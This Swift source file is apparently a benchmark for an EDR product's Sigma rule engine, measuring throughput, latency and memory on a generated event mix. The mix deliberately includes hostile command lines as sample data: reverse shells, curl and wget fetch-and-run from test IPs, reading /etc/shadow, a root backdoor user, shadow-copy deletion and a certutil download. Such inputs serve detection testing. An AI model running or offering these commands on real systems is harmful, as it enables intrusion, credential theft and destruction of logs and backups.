import EDRCore
import Foundation

/// Throughput/latency/memory figures for the Sigma engine on a synthetic but realistic event mix.
/// Prints figures only; no assertions. Run in release mode.
public enum SigmaBenchmark {
    public struct Figures: Sendable {
        public var loadSeconds: Double
        public var loaded: Int, rejected: Int, inert: Int
        public var events: Int
        public var eventsPerSecond: Double
        public var p50Micros: Double, p99Micros: Double, maxMicros: Double
        public var matches: Int
        public var rssMiB: Double, peakRssMiB: Double
    }

    /// Loads the rules, replays `events` events (cycling a pool of generated ones) on the calling
    /// thread, and returns a human-readable report.
    public static func run(rulePaths: [String], events: Int = 500_000, options: SigmaOptions = SigmaOptions()) throws -> String {
        let rssBefore = memory().rss
        let t0 = now()
        let engine = try SigmaEngine.load(paths: rulePaths, options: options)
        let loadSeconds = now() - t0
        let pool = eventMix(count: 2000)
        let windowsPool = eventMix(count: 2000, windows: true).filter { $0.logsource.product == "windows" }
        // Warm-up (fills layout/route caches and lazily-touched pages).
        var matches = 0
        for e in pool { matches &+= engine.evaluate(e).count }
        matches = 0
        // Throughput.
        let t1 = now(), c1 = cpuNow()
        pool.withUnsafeBufferPointer { p in
            for i in 0..<events { matches &+= engine.evaluate(p[i % p.count]).count }
        }
        let elapsed = now() - t1, cpu = cpuNow() - c1
        // Latency per event.
        var lat: [Double] = []
        lat.reserveCapacity(min(events, 200_000))
        for i in 0..<min(events, 200_000) {
            let a = now()
            _ = engine.evaluate(pool[i % pool.count])
            lat.append((now() - a) * 1e6)
        }
        lat.sort()
        // Cost per logsource of the mix.
        var byLS: [String: [Event]] = [:]
        for e in pool + windowsPool { byLS[e.logsource.description, default: []].append(e) }
        var perLS: [(String, Double, Int)] = []
        for (k, evs) in byLS.sorted(by: { $0.key < $1.key }) {
            let reps = max(1, 100_000 / evs.count)
            let c0 = cpuNow()
            var m = 0
            evs.withUnsafeBufferPointer { p in for _ in 0..<reps { for e in p { m &+= engine.evaluate(e).count } } }
            perLS.append((k, (cpuNow() - c0) * 1e6 / Double(reps * evs.count), m / reps))
        }
        let mem = memory()
        var rejectedReasons: [String: Int] = [:]
        var loaded = 0, rejected = 0, inert = 0
        for d in engine.diagnostics {
            switch d.status {
            case .loaded: loaded += 1
            case .inert: inert += 1
            case .rejected(let r):
                rejected += 1
                rejectedReasons[reasonClass(r), default: 0] += 1
            }
        }
        let f = Figures(loadSeconds: loadSeconds, loaded: loaded, rejected: rejected, inert: inert, events: events,
                        eventsPerSecond: Double(events) / elapsed,
                        p50Micros: lat.isEmpty ? 0 : lat[lat.count / 2], p99Micros: lat.isEmpty ? 0 : lat[lat.count * 99 / 100],
                        maxMicros: lat.last ?? 0, matches: matches, rssMiB: mem.rss, peakRssMiB: mem.hwm)
        var out = "Sigma engine benchmark\n"
        out += "rules: \(rulePaths.joined(separator: " "))\n"
        out += String(format: "load: %.3f s  loaded %d, rejected %d, inert %d (rules evaluated: %d, correlations: %d)\n",
                      f.loadSeconds, f.loaded, f.rejected, f.inert, engine.rules.count, engine.correlationRules.count)
        for (r, n) in rejectedReasons.sorted(by: { $0.value > $1.value }).prefix(5) { out += "  rejected \(n): \(r)\n" }
        out += String(format: "throughput: %.0f events/s per core by thread CPU time (%.0f by wall clock; %d events, %d matches)\n",
                      Double(events) / cpu, f.eventsPerSecond, f.events, f.matches)
        out += "event mix: \(pool.count) distinct Linux events (65% process_creation, 20% file_event, 15% network_connection)\n"
        out += String(format: "latency per event: p50 %.2f µs, p99 %.2f µs, max %.1f µs\n", f.p50Micros, f.p99Micros, f.maxMicros)
        out += "CPU time per event by logsource (Windows ones are not in the mix; shown for the Windows rules' cost):\n"
        for (k, us, m) in perLS { out += String(format: "  %@: %.2f µs/event (%d matches per pass)\n", k, us, m) }
        out += String(format: "memory: RSS %.1f MiB (peak %.1f MiB; %.1f MiB before load)\n", f.rssMiB, f.peakRssMiB, rssBefore)
        let automata = engine.unitSummary.reduce(0) { $0 + $1.automatonBytes }
        out += String(format: "compiled: %d logsource units, %d atoms, automata %.1f MiB\n",
                      engine.unitSummary.count, engine.unitSummary.reduce(0) { $0 + $1.atoms }, Double(automata) / 1048576)
        return out
    }

    static func reasonClass(_ r: String) -> String {
        if let q = r.firstIndex(of: "'"), r.hasPrefix("unknown modifier") { return String(r[..<q]) + "…" }
        return String(r.prefix(90))
    }

    static func now() -> Double {
        var ts = timespec()
        clock_gettime(CLOCK_MONOTONIC, &ts)
        return Double(ts.tv_sec) + Double(ts.tv_nsec) / 1e9
    }

    static func cpuNow() -> Double {
        var ts = timespec()
        clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts)
        return Double(ts.tv_sec) + Double(ts.tv_nsec) / 1e9
    }

    static func memory() -> (rss: Double, hwm: Double) {
        guard let s = try? String(contentsOfFile: "/proc/self/status", encoding: .utf8) else { return (0, 0) }
        var rss = 0.0, hwm = 0.0
        for line in s.split(separator: "\n") {
            let parts = line.split(whereSeparator: { $0 == " " || $0 == "\t" })
            if line.hasPrefix("VmRSS:"), parts.count >= 2 { rss = (Double(parts[1]) ?? 0) / 1024 }
            if line.hasPrefix("VmHWM:"), parts.count >= 2 { hwm = (Double(parts[1]) ?? 0) / 1024 }
        }
        return (rss, hwm)
    }

    /// A deterministic mix of what this Linux agent's sensor produces: 65% process_creation,
    /// 20% file_event, 15% network_connection (`windows: true` instead gives 55/15/10 Linux and
    /// 12% Windows process_creation, 4% registry_set, 4% file_event). About 2% of the events are
    /// suspicious command lines taken from common attack tooling.
    public static func eventMix(count: Int, windows: Bool = false) -> [Event] {
        var rng = SplitMix64(seed: 42)
        let linuxBins = ["/usr/bin/ls", "/usr/bin/git", "/usr/bin/python3", "/usr/bin/bash", "/usr/bin/grep", "/usr/sbin/sshd",
                         "/usr/bin/systemctl", "/usr/bin/cat", "/usr/bin/awk", "/usr/bin/sed", "/usr/lib/systemd/systemd-journald",
                         "/usr/bin/node", "/usr/bin/dpkg", "/usr/bin/apt-get", "/usr/bin/curl", "/usr/bin/tar", "/usr/bin/find"]
        let linuxArgs = ["-la /var/log", "status nginx.service", "-c 'import sys; print(sys.version)'", "--version",
                         "-rn TODO src/", "commit -m 'fix build'", "-xzf release.tar.gz -C /opt/app", "/etc/hosts",
                         "-fsSL https://example.com/index.html -o /tmp/index.html", "/home/user -name '*.log' -mtime +7",
                         "'{print $1}' /var/log/syslog", "-i 's/foo/bar/g' config.ini", "install -y jq", "-l"]
        let suspicious = ["bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", "curl http://198.51.100.7/x.sh | sh",
                          "base64 -d /tmp/payload | bash", "chmod +s /bin/bash", "crontab -r", "nc -e /bin/sh 10.1.1.1 9001",
                          "cat /etc/shadow", "wget http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k", "history -c",
                          "iptables -F", "setenforce 0", "useradd -o -u 0 backdoor"]
        let winBins = ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                       "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                       "C:\\Windows\\System32\\conhost.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                       "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\taskhostw.exe"]
        let winArgs = ["-k netsvcs -p -s Schedule", "/c dir C:\\Users", "-NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
                       "--type=renderer --lang=en-US", "0xffffffff -ForceV1", "/n C:\\Users\\bob\\Documents\\report.docx",
                       "shell32.dll,Control_RunDLL", "-Embedding"]
        let winSusp = ["powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                       "cmd.exe /c vssadmin delete shadows /all /quiet", "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer",
                       "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe", "whoami /priv"]
        var out: [Event] = []
        out.reserveCapacity(count)
        var ts = 1_760_000_000.0
        for _ in 0..<count {
            ts += 0.01
            var r = rng.next() % 100
            if !windows { r = r < 65 ? r * 55 / 65 : (r < 85 ? 55 + (r - 65) * 15 / 20 : 70 + (r - 85) * 10 / 15) }
            let susp = rng.next() % 50 == 0
            if r < 55 {
                let img = linuxBins[Int(rng.next() % UInt64(linuxBins.count))]
                let cmd = susp ? suspicious[Int(rng.next() % UInt64(suspicious.count))] : "\((img as NSString).lastPathComponent) \(linuxArgs[Int(rng.next() % UInt64(linuxArgs.count))])"
                let parent = rng.next() % 3 == 0 ? "/usr/bin/bash" : "/usr/lib/systemd/systemd"
                out.append(Event(logsource: LogSource(product: "linux", category: "process_creation"), timestamp: ts, fields: [
                    ("ProcessId", .int(Int64(1000 + rng.next() % 30000))), ("Image", .string(img)), ("CommandLine", .string(cmd)),
                    ("CurrentDirectory", "/home/user"), ("User", .string(rng.next() % 4 == 0 ? "root" : "user")), ("LogonId", .int(1000)),
                    ("ParentProcessId", .int(Int64(1 + rng.next() % 3000))), ("ParentImage", .string(parent)),
                    ("ParentCommandLine", .string(parent == "/usr/bin/bash" ? "-bash" : "/sbin/init")),
                ]))
            } else if r < 70 {
                let files = ["/tmp/tmp.\(rng.next() % 10000)", "/home/user/.cache/pip/x\(rng.next() % 100).whl", "/var/log/syslog",
                             "/etc/cron.d/backup", "/home/user/.bashrc", "/var/lib/dpkg/status", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libfoo.so"]
                out.append(Event(logsource: LogSource(product: "linux", category: "file_event"), timestamp: ts, fields: [
                    ("TargetFilename", .string(files[Int(rng.next() % UInt64(susp ? files.count : 6))])),
                    ("Image", .string(linuxBins[Int(rng.next() % UInt64(linuxBins.count))])), ("ProcessId", .int(4242)), ("User", "user"),
                ]))
            } else if r < 80 {
                out.append(Event(logsource: LogSource(product: "linux", category: "network_connection"), timestamp: ts, fields: [
                    ("Image", .string(linuxBins[Int(rng.next() % UInt64(linuxBins.count))])), ("Initiated", "true"),
                    ("SourceIp", "192.168.1.20"), ("SourcePort", .int(Int64(30000 + rng.next() % 20000))),
                    ("DestinationIp", .string("93.184.216.\(rng.next() % 255)")), ("DestinationPort", .int(rng.next() % 5 == 0 ? 4444 : 443)),
                    ("DestinationHostname", "example.com"), ("Protocol", "tcp"),
                ]))
            } else if r < 92 {
                let img = winBins[Int(rng.next() % UInt64(winBins.count))]
                let cmd = susp ? winSusp[Int(rng.next() % UInt64(winSusp.count))] : "\"\(img)\" \(winArgs[Int(rng.next() % UInt64(winArgs.count))])"
                out.append(Event(logsource: LogSource(product: "windows", category: "process_creation"), timestamp: ts, fields: [
                    ("EventID", .int(1)), ("Image", .string(img)), ("CommandLine", .string(cmd)),
                    ("OriginalFileName", .string((img as NSString).lastPathComponent.uppercased())),
                    ("ParentImage", "C:\\Windows\\explorer.exe"), ("ParentCommandLine", "C:\\Windows\\Explorer.EXE"),
                    ("User", "CORP\\bob"), ("IntegrityLevel", "Medium"), ("CurrentDirectory", "C:\\Users\\bob\\"),
                    ("Hashes", "SHA256=9F2B2E3A0C5B1E7D4C6A8B0D2E4F6A8C0E2D4B6A8C0E2F4A6B8C0D2E4F6A8B0C"),
                    ("Company", "Microsoft Corporation"), ("Product", "Microsoft® Windows® Operating System"), ("Description", "Windows host process"),
                ]))
            } else if r < 96 {
                out.append(Event(logsource: LogSource(product: "windows", category: "registry_set"), timestamp: ts, fields: [
                    ("EventID", .int(13)), ("EventType", "SetValue"),
                    ("TargetObject", .string("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater\(rng.next() % 10)")),
                    ("Details", "C:\\Program Files\\Updater\\upd.exe"), ("Image", .string(winBins[Int(rng.next() % UInt64(winBins.count))])),
                ]))
            } else {
                out.append(Event(logsource: LogSource(product: "windows", category: "file_event"), timestamp: ts, fields: [
                    ("EventID", .int(11)), ("TargetFilename", .string("C:\\Users\\bob\\AppData\\Local\\Temp\\tmp\(rng.next() % 1000).tmp")),
                    ("Image", .string(winBins[Int(rng.next() % UInt64(winBins.count))])),
                ]))
            }
        }
        return out
    }

}
